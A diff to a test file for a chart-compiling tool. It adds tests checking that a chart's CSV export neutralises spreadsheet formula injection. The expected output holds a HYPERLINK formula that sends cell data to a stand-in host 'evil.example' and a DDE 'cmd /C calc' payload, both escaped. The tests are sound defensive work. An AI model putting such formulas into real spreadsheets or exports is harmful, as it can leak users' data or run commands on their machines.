@@ -48,6 +48,7 @@ describe("the bad-input corpus", () => {
         "csv-utf8-bom", "csv-utf16", "data-empty", "data-file-too-large", "duplicate-ids", "missing-references",
         "src-not-a-file", "src-path-traversal", "plot-option-types", "html-in-data", "large-inline-block", "data-not-text",
         "public-link-outside", "story-files-not-built",
+        "csv-formula-cells", "raw-html-swallows-chart", "unsafe-addresses", "external-pictures", "date-format-on-number",
       ]),
     );
   });
@@ -167,6 +168,28 @@ describe("markup and control characters in what charts draw", () => {
     expect(story.charts[0]!.chartMarkup).toContain("Beijing North");
     expect(story.charts[0]!.svg!.content).toContain("Escaped  in YAML: dropped");
     expect(story.charts[0]!.svg!.content).toMatch(/Salary +by city/);
+  });
+});
+
+describe("data a spreadsheet would run", () => {
+  it("reaches the chart's CSV download with every formula-like cell and name neutralised, numbers as numbers", () => {
+    const story = compileProject(projectWith(caseNamed("csv-formula-cells"))).stories[0]!;
+    const csv = story.assets.find((a) => a.path === "_plotline/data/csv-formula-cells/formula-cells.csv")?.content;
+    expect(csv).toBe(
+      "\uFEFFfirm,change,\"'@note\"\n" +
+        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Alibaba\"\")\",-5,\"'@SUM(A1:A9)\"\n" +
+        "Tencent,12,\"'=1+1\"\n" +
+        "\"'-Baidu\",3,\"'+cmd|' /C calc'!A0\"\n" +
+        "ByteDance,0,\"'-x\"\n",
+    );
+  });
+});
+
+describe("raw HTML that swallows a chart", () => {
+  it("is reported, and the chart it would have hidden is still compiled and checked", () => {
+    const story = compileProject(projectWith(caseNamed("raw-html-swallows-chart"))).stories[0]!;
+    expect(story.ok).toBe(false);
+    expect(story.charts.map((chart) => chart.id)).toEqual(["degrees"]);
   });
 });
 
